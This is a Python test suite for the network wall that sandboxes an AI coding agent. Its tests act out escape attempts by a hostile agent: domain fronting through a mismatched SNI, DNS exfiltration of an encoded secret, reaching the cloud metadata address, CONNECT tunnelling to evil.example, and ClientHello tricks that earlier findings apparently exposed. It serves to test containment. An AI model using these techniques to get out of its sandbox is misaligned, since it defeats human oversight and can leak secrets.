"""The network wall for real: a box network namespace (root), the relay on the runner's side,
servers on the runner's 127.0.0.1. Each test is what a hostile agent in the box would try.

Before the wall (the agent in the runner's namespace) every one of these attempts reaches its
server: the tests assert that nothing arrives, which fails without the box's namespace.
"""

from __future__ import annotations

import contextlib
import errno
import os
import signal
import socket
import ssl
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from cursor_agent_action.agent.contain.box.net.policy import build_policy
from cursor_agent_action.agent.contain.box.net.relay import Limits
from tests.support.netbox import (
    CCS,
    PREFIX,
    Emit,
    UdpServer,
    connect_by_name,
    dns_query,
    echo,
    fixed_resolver,
    hello,
    http_host,
    lookup,
    loopback_name,
    run_boxed,
    self_signed,
    server_hello,
    servers,
)

pytestmark = pytest.mark.skipif(os.geteuid() != 0 or not sys.platform.startswith("linux"),
                                reason="network namespaces: root on Linux (CI here is root)")
WEB = f"{PREFIX}web.example"
OTHER = f"{PREFIX}other.example"
LOOPBACK = {WEB: ["127.0.0.1"], OTHER: ["127.0.0.1"]}


def _errno_of(action: Any) -> str:
    try:
        action()
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, str(exc))
    return "connected"


def _http_get(name: str, port: int, host: str | None = None) -> bytes:
    with connect_by_name(name, port) as sock:
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {host or name}\r\n\r\n".encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
        return data


def test_an_allowed_name_reaches_its_server_over_http() -> None:
    with servers(http_host) as (web,):
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            return _http_get(WEB, web.port).decode()

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK))
    assert run.result.endswith(f"host={WEB}")
    assert web.connections == 1
    [entry] = run.report.allowed
    assert entry.destination == f"{WEB}:{web.port}"
    assert entry.connections == 1
    assert entry.bytes_out > 20
    assert entry.bytes_in > 20
    assert run.report.refused == ()
    assert run.report.error == ""


@pytest.fixture(scope="module")
def tls_files(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return self_signed(tmp_path_factory.mktemp("tls"), WEB)


def test_an_allowed_name_reaches_its_server_over_tls_and_another_sni_is_refused(
    tls_files: tuple[Path, Path],
) -> None:
    cert_file, key_file = tls_files
    server_context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    server_context.load_cert_chain(cert_file, key_file)
    seen_sni: list[str | None] = []

    def tls_echo(conn: socket.socket, server: Any) -> None:
        server_context.sni_callback = lambda _s, name, _c: seen_sni.append(name)
        with server_context.wrap_socket(conn, server_side=True) as tls:
            while data := tls.recv(65536):
                server.record(data)
                tls.sendall(data)

    with servers(tls_echo, echo) as (web, raw):
        policy = build_policy([f"{WEB}:{web.port}", f"{OTHER}:{raw.port}"])

        def client(emit: Emit) -> Any:
            context = ssl.create_default_context(cafile=str(cert_file))
            with connect_by_name(WEB, web.port) as sock, context.wrap_socket(
                    sock, server_hostname=WEB) as tls:
                tls.sendall(b"over tls")
                answer = tls.recv(100).decode()
            # Domain fronting: dial OTHER (allowed) but ask for WEB in the SNI.
            with connect_by_name(OTHER, raw.port) as sock:
                sock.settimeout(5)
                fronted = _errno_of(lambda: context.wrap_socket(sock, server_hostname=WEB))
            return [answer, fronted]

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK))
    assert run.result[0] == "over tls"
    assert seen_sni == [WEB]
    assert run.result[1] != "connected"
    assert bytes(raw.received) == b""  # the fronted ClientHello never left the box
    [refusal] = run.refused("sni-mismatch")
    assert refusal.destination == OTHER
    assert WEB in refusal.first


def test_an_http_host_for_another_name_is_refused() -> None:
    with servers(http_host) as (web,):
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            return _http_get(WEB, web.port, host="evil.example").decode()

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK))
    assert run.result == ""
    assert bytes(web.received) == b""
    assert run.refused("sni-mismatch")[0].first == "the connection asks for evil.example"


def test_refused_names_ip_literals_ports_host_loopback_and_abstract_sockets_all_fail() -> None:
    calls: list[str] = []
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0{PREFIX}{os.getpid()}")
    abstract.listen()
    with servers(echo, echo) as (web, host_only), abstract:
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            rcode, _ = lookup("refused.example")
            by_literal = _errno_of(lambda: socket.create_connection(
                ("127.0.0.1", host_only.port), timeout=3))  # the runner's loopback: not here
            to_listener = socket.create_connection(("127.0.0.1", 443), timeout=3)
            to_listener.settimeout(3)
            literal_at_wall = to_listener.recv(10)  # accepted by the wall, then closed
            unknown_pool = socket.create_connection(("127.77.200.1", 443), timeout=3)
            unknown_pool.settimeout(3)
            wrong_port = connect_by_name(WEB, 8080)  # a watched port no rule gives WEB
            wrong_port.settimeout(3)
            unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            by_abstract = _errno_of(lambda: unix.connect(f"\0{PREFIX}{os.getppid()}"))
            outside = _errno_of(lambda: socket.create_connection(("192.0.2.1", 443), timeout=3))
            return [rcode, by_literal, literal_at_wall.decode(), unknown_pool.recv(10).decode(),
                    wrong_port.recv(10).decode(), by_abstract, outside]

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK, calls))
    rcode, by_literal, at_wall, unknown, wrong_port, by_abstract, outside = run.result
    assert rcode == 5  # REFUSED
    assert by_literal == "ECONNREFUSED"
    assert host_only.connections == 0
    assert at_wall == ""
    assert unknown == ""
    assert wrong_port == ""
    assert by_abstract in ("ECONNREFUSED", "ENOENT")
    assert outside == "ENETUNREACH"
    assert web.connections == 0
    assert calls == []
    kinds = {(r.kind, r.destination) for r in run.report.refused}
    assert kinds == {("dns", "refused.example"), ("ip-literal", "127.0.0.1:443"),
                     ("ip-literal", "127.77.200.1:443"), ("port", f"{WEB}:8080")}
    firsts = [e for e in run.events if e.event == "refused" and e.first_of_run]
    assert len(firsts) == 1
    assert firsts[0].kind == "dns"


def test_udp_and_a_dns_query_carrying_a_secret_never_leave_the_box() -> None:
    secret = "c2VjcmV0LWtleQ"
    calls: list[str] = []
    udp, host_dns = UdpServer(), UdpServer()
    try:
        def client(emit: Emit) -> Any:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"datagram", ("127.0.0.1", udp.port))
                outside = _errno_of(lambda: sock.sendto(b"x", ("192.0.2.1", 53)))
            direct = lookup(f"{secret}.example.test", ("127.0.0.1", host_dns.port), timeout_s=1)
            ours = lookup(f"{secret}.example.test")
            return [outside, direct[0], ours[0]]

        run = run_boxed(build_policy([]), client, resolve=fixed_resolver({}, calls))
        time.sleep(0.3)  # anything in flight would have arrived by now
        assert udp.received == []
        assert host_dns.received == []
    finally:
        udp.close()
        host_dns.close()
    assert run.result == ["ENETUNREACH", -1, 5]
    assert calls == []  # the resolver never forwards: the secret went nowhere
    [refusal] = run.refused("dns")
    assert refusal.destination == f"{secret}.example.test".lower()


def test_the_metadata_address_is_refused_even_when_an_allowed_name_resolves_to_it() -> None:
    wild = f"api.{PREFIX}corp.example"
    table = {WEB: ["169.254.169.254"], OTHER: ["fd00:ec2::254", "100.100.100.200"],
             wild: ["127.0.0.1"]}  # a wildcard name pointed at the runner's loopback
    with servers(echo) as (web,):
        policy = build_policy([f"{WEB}:{web.port}", f"{OTHER}:{web.port}",
                               f"*.{PREFIX}corp.example:{web.port}"])

        def client(emit: Emit) -> Any:
            results = []
            for name in (WEB, OTHER, wild):
                with connect_by_name(name, web.port) as sock:
                    sock.settimeout(5)
                    sock.sendall(b"hello")
                    results.append(sock.recv(10).decode())
            return results

        run = run_boxed(policy, client, resolve=fixed_resolver(table))
    assert run.result == ["", "", ""]
    assert web.connections == 0
    refused = {r.destination: r.first for r in run.refused("address")}
    assert refused == {f"{WEB}:{web.port}": f"{WEB} resolves to 169.254.169.254",
                       f"{OTHER}:{web.port}": f"{OTHER} resolves to fd00:ec2::254, "
                       "100.100.100.200", f"{wild}:{web.port}": f"{wild} resolves to 127.0.0.1"}


def test_two_hundred_connections_at_once_and_a_slow_upstream_do_not_stall() -> None:
    def slow(conn: socket.socket, server: Any) -> None:
        conn.recv(100)
        time.sleep(20)  # never answers in time

    with servers(echo, slow) as (web, sluggish):
        policy = build_policy([f"{WEB}:{web.port}", f"{OTHER}:{sluggish.port}"])

        def client(emit: Emit) -> Any:
            stuck = connect_by_name(OTHER, sluggish.port)
            stuck.sendall(b"GET / HTTP/1.1\r\nHost: " + OTHER.encode() + b"\r\n\r\n")
            address = lookup(WEB)[1][0]
            started = time.monotonic()
            sockets = [socket.create_connection((address, web.port), timeout=10)
                       for _ in range(200)]
            for i, sock in enumerate(sockets):
                sock.sendall(b"ping %d\n" % i)  # a first line is read to its end
            answers = [sock.recv(100) for sock in sockets]
            elapsed = time.monotonic() - started
            for sock in sockets:
                sock.close()
            return [sum(a == b"ping %d\n" % i for i, a in enumerate(answers)), elapsed]

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK))
    answered, elapsed = run.result
    assert answered == 200
    assert elapsed < 10
    assert web.connections == 200


def test_a_far_end_that_never_reads_holds_the_sender_back_instead_of_filling_memory() -> None:
    def deaf(conn: socket.socket, server: Any) -> None:
        time.sleep(15)

    with servers(deaf) as (sink,):
        policy = build_policy([f"{WEB}:{sink.port}"])

        def client(emit: Emit) -> Any:
            sock = connect_by_name(WEB, sink.port)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * 1024)
            sock.settimeout(2)
            sent = 0
            chunk = b"\0" * 65536  # not a first line that could be HTTP's: copied as it comes
            try:
                while sent < 512 * 1024 * 1024:
                    sent += sock.send(chunk)
            except TimeoutError:
                pass
            return sent

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK),
                        limits=Limits(buffer_bytes=128 * 1024))
    # Kernel buffers on both legs plus the relay's bounded buffer; never the 512 MiB tried.
    assert 0 < run.result < 64 * 1024 * 1024


@pytest.mark.parametrize("how", ["killed", "stopped"])
def test_when_the_relay_dies_or_stops_mid_run_every_connection_fails_closed(how: str) -> None:
    closed = threading.Event()

    def held(conn: socket.socket, server: Any) -> None:
        conn.sendall(conn.recv(100))
        conn.settimeout(20)
        conn.recv(100)  # returns at EOF: the relay let go
        closed.set()

    with servers(held) as (web,):
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            sock = connect_by_name(WEB, web.port)
            sock.sendall(b"hello\n")  # a first line is read to its end
            first = sock.recv(10).decode().strip()
            address = lookup(WEB)[1][0]
            emit("ready")
            sock.settimeout(10)
            try:
                after = sock.recv(10).decode()
            except OSError as exc:
                after = errno.errorcode.get(exc.errno or 0, str(exc))
            time.sleep(0.2)
            again = _errno_of(lambda: socket.create_connection((address, web.port), timeout=3))
            dns_after = lookup(WEB, timeout_s=1)[0]
            return [first, after, again, dns_after]

        def act(message: Any, jail: int) -> None:
            os.kill(jail, signal.SIGKILL if how == "killed" else signal.SIGUSR1)

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK), on_message=act)
        assert closed.wait(10), "the far end's connection was left open"
    first, after, again, dns_after = run.result
    assert first == "hello"
    assert after in ("", "ECONNRESET")
    assert again == "ECONNREFUSED"
    assert dns_after == -1


def test_dns_over_tcp_is_answered_the_same_way() -> None:
    def client(emit: Emit) -> Any:
        replies = []
        with socket.create_connection(("127.0.0.1", 53), timeout=3) as sock:
            for name in (WEB, "refused.example"):
                query = dns_query(name)
                sock.sendall(len(query).to_bytes(2, "big") + query)
                size = int.from_bytes(sock.recv(2), "big")
                replies.append(sock.recv(size)[3] & 0xF)
        return replies

    run = run_boxed(build_policy([WEB]), client)
    assert run.result == [0, 5]


@pytest.fixture
def hosts_entry() -> Any:
    """A name in the runner's real /etc/hosts (for the relay's system resolver), restored
    byte for byte afterwards, even on failure."""
    with loopback_name(f"{PREFIX}hosts.example") as name:
        yield name


def test_through_the_runners_hosts_file_and_the_boxs_own_resolv_conf(
    hosts_entry: str, tmp_path: Path,
) -> None:
    """End to end as the agent's tools see it: getaddrinfo in the box reads the wall's
    resolv.conf and a localhost-only hosts file; the relay resolves with the runner's real
    resolver, which reads the runner's /etc/hosts."""
    import ctypes
    import http.client

    from cursor_agent_action.agent.contain.box.net import netns
    from cursor_agent_action.agent.contain.box.net.relay import HOSTS_TEXT, Wall

    tmp_path.chmod(0o755)
    side_door = tmp_path / "resolve"  # stands for /run/systemd/resolve
    side_door.mkdir()
    (side_door / "io.systemd.Resolve").touch()
    files = tmp_path / "files"
    files.mkdir()
    with servers(http_host) as (web,):
        policy = build_policy([f"{hosts_entry}:{web.port}"])

        def client(emit: Emit) -> Any:
            libc = ctypes.CDLL(None, use_errno=True)
            assert libc.unshare(0x00020000) == 0  # CLONE_NEWNS
            assert libc.mount(b"none", b"/", None, 16384 | (1 << 18), None) == 0  # rprivate
            netns.mount_resolver_files(Wall.resolv_conf_text(), HOSTS_TEXT, files,
                                       hide=[*netns.RESOLVER_SIDE_DOORS, str(side_door)])
            hidden = sorted(p.name for p in side_door.iterdir())
            address = socket.getaddrinfo(hosts_entry, web.port, socket.AF_INET)[0][4][0]
            connection = http.client.HTTPConnection(hosts_entry, web.port, timeout=5)
            connection.request("GET", "/")
            body = connection.getresponse().read().decode()
            unknown = _errno_of(lambda: socket.getaddrinfo("other.example", 443))
            return [address, body, unknown, Path("/etc/hosts").read_text(), hidden]

        run = run_boxed(policy, client)
    address, body, unknown, hosts, hidden = run.result
    assert hidden == []  # a resolver's socket outside the wall is not there in the box
    assert (side_door / "io.systemd.Resolve").exists()  # and still is for the runner
    assert address.startswith("127.77.")
    assert body == f"host={hosts_entry}:{web.port}"
    assert hosts == HOSTS_TEXT
    assert unknown != "connected"
    assert run.report.allowed[0].destination == f"{hosts_entry}:{web.port}"
    assert Path("/etc/hosts").read_text().count(hosts_entry) == 1  # the runner's, untouched


def test_without_the_box_the_same_attempts_arrive() -> None:
    """The control: from the runner's namespace (an uncontained agent) the host's loopback
    listener, a UDP datagram and an abstract socket are all reached, so the tests above
    would fail without the box's namespace."""
    udp = UdpServer()
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0{PREFIX}control-{os.getpid()}")
    abstract.listen()
    try:
        with servers(echo) as (host_only,), abstract:
            socket.create_connection(("127.0.0.1", host_only.port), timeout=3).close()
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"datagram", ("127.0.0.1", udp.port))
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
                unix.connect(f"\0{PREFIX}control-{os.getpid()}")
            deadline = time.monotonic() + 5
            while (not udp.received or not host_only.connections) and time.monotonic() < deadline:
                time.sleep(0.05)
            assert host_only.connections == 1
            assert udp.received == [b"datagram"]
    finally:
        udp.close()


def test_a_client_hello_sent_a_byte_at_a_time_is_still_read_and_checked() -> None:
    from tests.agent.test_net_peek import client_hello

    with servers(echo) as (web,):
        policy = build_policy([f"{WEB}:{web.port}", f"{OTHER}:{web.port}"])

        def client(emit: Emit) -> Any:
            answers = []
            for asked in (WEB, OTHER):
                hello = client_hello(asked)
                with connect_by_name(WEB, web.port) as sock:
                    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                    sock.settimeout(5)
                    for byte in hello:
                        sock.send(bytes([byte]))
                    answers += [len(hello), len(sock.recv(65536))]
            return answers

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK))
    sent, echoed, _, closed = run.result
    assert echoed > 0  # echoed back: the hello naming WEB went through
    assert closed == 0  # closed: the hello naming OTHER on WEB's address did not
    assert len(web.received) == sent  # only the first hello reached the server
    assert [r.destination for r in run.refused("sni-mismatch")] == [WEB]


def test_a_connect_from_the_agent_is_refused_even_to_an_allowed_name() -> None:
    """Nothing in the box is a proxy: a ``CONNECT`` to an allowed name (a listed proxy) is
    refused and reported like one to any other name, before the far end hears of it (the
    runner's own proxy is the relay's to use, see docs/network.md)."""
    proxy = f"{PREFIX}proxy.example"

    def proxy_server(conn: socket.socket, server: Any) -> None:
        head = conn.recv(65536)
        server.record(head)
        conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")

    with servers(proxy_server) as (web,):
        policy = build_policy([f"{proxy}:{web.port}", "api2.cursor.sh"])

        def client(emit: Emit) -> Any:
            answers = []
            for target in ("api2.cursor.sh:443", "evil.example:443"):
                with connect_by_name(proxy, web.port) as sock:
                    sock.settimeout(5)
                    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
                    try:
                        answers.append(sock.recv(100).decode())
                    except ConnectionResetError:
                        answers.append("reset")
            return answers

        run = run_boxed(policy, client, resolve=fixed_resolver({proxy: ["127.0.0.1"]}))
    assert set(run.result) <= {"", "reset"}
    assert bytes(web.received) == b""
    [refused] = run.refused("sni-mismatch")
    assert refused.first == ("an HTTP request refused (a CONNECT: nothing in the box is a "
                             "proxy)")
    assert refused.count == 2


def test_connections_over_the_limit_are_refused_and_reported() -> None:
    with servers(echo) as (web,):
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            address = lookup(WEB)[1][0]
            held = []
            for i in range(8):
                sock = socket.create_connection((address, web.port), timeout=5)
                sock.sendall(b"x%d\n" % i)
                held.append(sock)
            answers = []
            for sock in held:
                try:
                    answers.append(sock.recv(10).decode().strip())
                except ConnectionResetError:
                    answers.append("reset")
                sock.close()
            return answers

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK),
                        limits=Limits(max_connections=5))
    assert run.result[:5] == ["x0", "x1", "x2", "x3", "x4"]
    assert set(run.result[5:]) <= {"", "reset"}
    [limit] = run.refused("limit")
    assert limit.count == 3
    assert limit.first == "over 5 connections at once"


def _recording(answer: bytes = b"") -> Any:
    """A far end that records what it receives and answers ``answer`` to its first bytes."""

    def handler(conn: socket.socket, server: Any) -> None:
        answered = False
        while data := conn.recv(65536):
            server.record(data)
            if answer and not answered:
                conn.sendall(answer)
                answered = True

    return handler


def test_a_second_client_hello_after_a_hello_retry_request_is_checked() -> None:
    """The first finding: a far end answers the first hello (naming WEB) with a
    HelloRetryRequest; the second hello names another host and was copied unchecked."""
    with servers(_recording(server_hello(retry=True))) as (web,):
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            with connect_by_name(WEB, web.port) as sock:
                sock.settimeout(5)
                sock.sendall(hello(WEB))
                retry = sock.recv(65536)
                sock.sendall(CCS + hello("evil.example"))
                with contextlib.suppress(OSError):
                    return [len(retry), sock.recv(100).decode("latin-1")]
            return [len(retry), "reset"]

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK))
    assert run.result[0] > 0
    assert b"evil.example" not in bytes(web.received)
    assert bytes(web.received).startswith(hello(WEB))
    [refusal] = run.refused("sni-mismatch")
    assert "evil.example" in refusal.first


def test_a_client_hello_after_the_first_bytes_wait_is_still_read_as_tls() -> None:
    """The first finding: a hello sent after the relay's wait for first bytes (no CR or LF
    in it) took the "first line" path and was copied unchecked."""
    with servers(_recording()) as (web,):
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            with connect_by_name(WEB, web.port) as sock:
                sock.settimeout(5)
                time.sleep(1.0)  # past the wait below
                sock.sendall(hello("evil.example"))
                with contextlib.suppress(OSError):
                    return sock.recv(100).decode()
            return "reset"

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK),
                        limits=Limits(peek_timeout_s=0.3))
    assert bytes(web.received) == b""
    assert "evil.example" in run.refused("sni-mismatch")[0].first


def test_a_client_hello_with_encrypted_client_hello_is_refused_and_reported() -> None:
    """The first finding: the outer name was allowed, the inner one never seen."""
    with servers(_recording()) as (web,):
        policy = build_policy([f"{WEB}:{web.port}"])

        def client(emit: Emit) -> Any:
            with connect_by_name(WEB, web.port) as sock:
                sock.settimeout(5)
                sock.sendall(hello(WEB, ech=True))
                with contextlib.suppress(OSError):
                    return sock.recv(100).decode()
            return "reset"

        run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK))
    assert bytes(web.received) == b""
    assert "encrypted_client_hello" in run.refused("sni-mismatch")[0].first


def test_dns_over_tcp_counts_toward_the_connection_cap() -> None:
    """The first finding: DNS-over-TCP connections were never refused (4,150 were held)."""
    policy = build_policy([WEB])

    def client(emit: Emit) -> Any:
        held = [socket.create_connection(("127.0.0.1", 53), timeout=5) for _ in range(8)]
        answered = 0
        for sock in held:
            query = dns_query(WEB)
            try:
                sock.sendall(len(query).to_bytes(2, "big") + query)
                answered += len(sock.recv(4096)) > 2
            except OSError:
                pass
        for sock in held:
            sock.close()
        return answered

    run = run_boxed(policy, client, resolve=fixed_resolver(LOOPBACK),
                    limits=Limits(max_connections=5))
    assert run.result == 5
    [limit] = run.refused("limit")
    assert limit.count == 3
    assert limit.first == "over 5 connections at once"
